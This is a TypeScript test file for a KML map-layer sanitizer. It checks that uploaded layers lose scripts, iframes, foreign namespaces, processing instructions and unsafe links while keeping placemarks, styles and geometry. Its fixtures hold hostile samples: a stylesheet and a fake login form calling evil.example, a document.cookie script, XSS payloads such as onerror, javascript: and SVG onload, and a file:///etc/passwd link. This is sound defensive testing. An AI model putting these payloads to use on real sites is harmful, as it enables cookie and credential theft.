import { readFileSync } from 'node:fs';
import path from 'node:path';
import { readKml, type XmlDocument } from '@club/shared/domain/kml/reader';
import type { Layer } from '@club/shared/domain/kml/types';
import { DOMParser } from '@xmldom/xmldom';
import { describe, expect, it } from 'vitest';
import { cleanKml, safeLayer } from './kml-file.ts';

const parse = (text: string) =>
  new DOMParser().parseFromString(text, 'application/xml') as unknown as XmlDocument;
const fixture = (name: string) =>
  readFileSync(
    path.resolve(import.meta.dirname, '../../../../../packages/shared/src/domain/kml/fixtures', name),
    'utf8',
  );

/** A layer with markup a browser would run if the stored file were ever shown as a document. */
export const hostileKml = `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="https://evil.example/steal.xsl"?>
<kml xmlns="http://www.opengis.net/kml/2.2" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:evil="urn:evil">
<Document><name>Port</name>
<h:script>alert(document.cookie)</h:script>
<h:iframe src="https://evil.example/"/>
<h:form action="https://evil.example/login"><h:input name="password"/></h:form>
<evil:payload evil:run="yes">exfiltrate</evil:payload>
<?php echo 1; ?>
<Placemark><name>Bouée</name><description><![CDATA[<b>Mérous</b>]]></description>
<evil:extra>hidden</evil:extra>
<Point><coordinates>6.3925,42.9918,0</coordinates></Point></Placemark>
<Folder><name>Routes</name>
<Placemark><name>Sentier</name><h:script>alert(2)</h:script>
<LineString><coordinates>6.39,42.99,0 6.40,43.00,0</coordinates></LineString></Placemark>
</Folder>
</Document></kml>`;

/**
 * What the map draws of a layer: opacities to the 1/255 step of a KML colour, and no fill for lines
 * (a line's style in a KML may name a fill colour; nothing draws it).
 */
function shown(layer: Layer): Layer {
  const opacity = (value: number) => Math.round(value * 255);
  return {
    ...layer,
    shapes: layer.shapes.map((shape) => {
      if (!('style' in shape)) return shape;
      const line = shape.type === 'polyline' || shape.type === 'multi';
      const style = {
        ...shape.style,
        strokeOpacity: opacity(shape.style.strokeOpacity),
        fillColor: line ? '' : shape.style.fillColor,
        fillOpacity: line ? 0 : opacity(shape.style.fillOpacity),
      };
      return { ...shape, style };
    }),
  };
}

describe('cleanKml', () => {
  it('stores no XHTML script, iframe or form, no foreign namespace and no processing instruction', () => {
    const stored = cleanKml(hostileKml);
    for (const gone of [
      '<script',
      ':script',
      'iframe',
      'form',
      'input',
      'evil',
      'xhtml',
      'xml-stylesheet',
      '<?php',
      'alert',
      'exfiltrate',
      'hidden',
    ])
      expect(stored).not.toContain(gone);
    // The only processing instruction is the XML declaration; the only namespace KML's.
    expect(stored.match(/<\?/g)).toHaveLength(1);
    expect(stored.match(/xmlns/g)).toEqual(['xmlns']);
    expect(stored).toContain('xmlns="http://www.opengis.net/kml/2.2"');
    // The placemarks survive, in order, with their names, sanitized description and geometry.
    const layer = readKml(parse(stored));
    expect(layer.name).toBe('Port');
    expect(layer.shapes).toMatchObject([
      {
        type: 'marker',
        title: 'Bouée',
        description: '<strong>Mérous</strong>',
        position: { lat: 42.9918, lng: 6.3925 },
      },
      {
        type: 'polyline',
        title: 'Sentier',
        path: [
          { lat: 42.99, lng: 6.39 },
          { lat: 43, lng: 6.4 },
        ],
      },
    ]);
  });

  it.each(['google-earth-port-cros.kml', 'umap-export.kml'])(
    'keeps everything the map shows of %s: names, descriptions, styles, icons, ground overlays, links',
    (name) => {
      const source = fixture(name);
      const before = safeLayer(readKml(parse(source)));
      const stored = cleanKml(source);
      expect(shown(readKml(parse(stored)))).toEqual(shown(before));
      // Stored once more (an edit of the same file), it does not change.
      expect(cleanKml(stored)).toBe(stored);
    },
  );

  it('empties or drops links to anything but the web and our own files', () => {
    const layer: Layer = {
      name: 'Links',
      shapes: [
        {
          type: 'marker',
          title: 'M',
          description: '<img src="x" onerror="alert(1)"><script>alert(2)</script>ok',
          position: { lat: 1, lng: 2 },
          markerType: null,
          image: 'javascript:alert(3)',
          iconHref: 'data:image/svg+xml,<svg onload=alert(4)>',
        },
        {
          type: 'image',
          title: 'I',
          description: '',
          image: 'javascript:alert(5)',
          bounds: { north: 1, south: 0, east: 1, west: 0 },
          rotation: 0,
        },
        { type: 'network_link', title: 'N', description: '', href: 'file:///etc/passwd' },
        { type: 'network_link', title: 'Ours', description: '', href: '/files/Kmls/1/pictures/a.webp' },
      ],
    };
    const safe = safeLayer(layer);
    expect(safe.shapes).toMatchObject([
      { type: 'marker', image: null, iconHref: null },
      { type: 'network_link', href: '/files/Kmls/1/pictures/a.webp' },
    ]);
    expect(safe.shapes[0]?.description).not.toMatch(/script|onerror|alert/);
  });
});
